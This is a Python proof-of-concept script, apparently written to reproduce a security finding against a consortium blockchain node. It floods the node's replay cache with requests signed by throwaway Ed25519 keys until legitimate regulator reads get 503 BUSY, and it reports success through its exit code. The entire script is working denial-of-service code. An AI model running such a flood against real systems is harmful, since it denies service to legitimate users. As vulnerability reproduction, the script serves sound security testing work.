#!/usr/bin/python3
"""Finding: anyone can fill a node's replay cache and have every signed read refused 503 BUSY.
A signature is remembered after it verifies, before any role is looked at, and any Ed25519
key verifies its own signature: this script signs with fresh random keys that the chain has
never seen. `created` is set skew - 1 s in the future, so each entry lives ~2 x skew.

usage: replay_cache_flood.py CONSORTIUM_DIR HTTP_PORT SECONDS [PROCS=2] [CREATED_AHEAD=29]
Every second it prints the flood's accepted rate and the answer to a fresh regulator read of
GET /v1/blocks?from=1 (signed afresh each time). Exit 1 if a regulator read got 503 BUSY."""
import multiprocessing as mp
import os, re, socket, sys, time
import nacl.signing
from r2lib import chain_of, exchange, load_key, raw_request, sign_headers

cons, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
procs = int(sys.argv[4]) if len(sys.argv) > 4 else 2
ahead = int(sys.argv[5]) if len(sys.argv) > 5 else 29
chain = chain_of(cons)
TARGET = "/v1/receipts/" + "00" * 32
BATCH = 64


def flood(counts, stop_at):
    key = nacl.signing.SigningKey(os.urandom(32))  # a key no role has
    s = socket.create_connection(("127.0.0.1", port))
    n = 0
    buf = b""
    while time.time() < stop_at:
        created = int(time.time()) + ahead
        # distinct signatures: the query differs per request
        reqs = b"".join(raw_request("GET", f"{TARGET}?n={n + i}",
                                    sign_headers(key, chain, "GET", f"{TARGET}?n={n + i}", created),
                                    close=False) for i in range(BATCH))
        n += BATCH
        s.sendall(reqs)
        got = 0
        while got < BATCH:
            m = re.search(rb"HTTP/1.1 (\d+)[^\r]*\r\n(.*?)\r\n\r\n", buf, re.S)
            if not m:
                k = s.recv(1 << 16)
                if not k:
                    s = socket.create_connection(("127.0.0.1", port))
                    buf = b""
                    break
                buf += k
                continue
            cl = int(re.search(rb"(?i)content-length: (\d+)", m.group(2)).group(1))
            end = m.end() + cl
            if len(buf) < end:
                k = s.recv(1 << 16)
                buf += k
                continue
            code = int(m.group(1))
            with counts.get_lock():
                counts[0 if code == 404 else 1 if code == 503 else 2] += 1
            buf = buf[end:]
            got += 1


counts = mp.Array("q", 3)
stop_at = time.time() + seconds
workers = [mp.Process(target=flood, args=(counts, stop_at)) for _ in range(procs)]
for w in workers:
    w.start()
reg = load_key(f"{cons}/keys/regulator.key")
busy = 0
last = [0, 0, 0]
t0 = time.time()
while time.time() < stop_at:
    time.sleep(1)
    target = "/v1/blocks?from=1&count=1"
    st, _, body = exchange(port, raw_request("GET", target, sign_headers(reg, chain, "GET", target)))
    now = list(counts)
    busy += st == 503
    print(f"t={time.time() - t0:5.1f}s flood: +{now[0] - last[0]} remembered (404), "
          f"+{now[1] - last[1]} BUSY, +{now[2] - last[2]} other; total remembered {now[0]}; "
          f"regulator read -> {st} {body[:60]!r}", flush=True)
    last = now
for w in workers:
    w.join()
print(f"regulator reads refused 503 BUSY: {busy}")
sys.exit(1 if busy else 0)
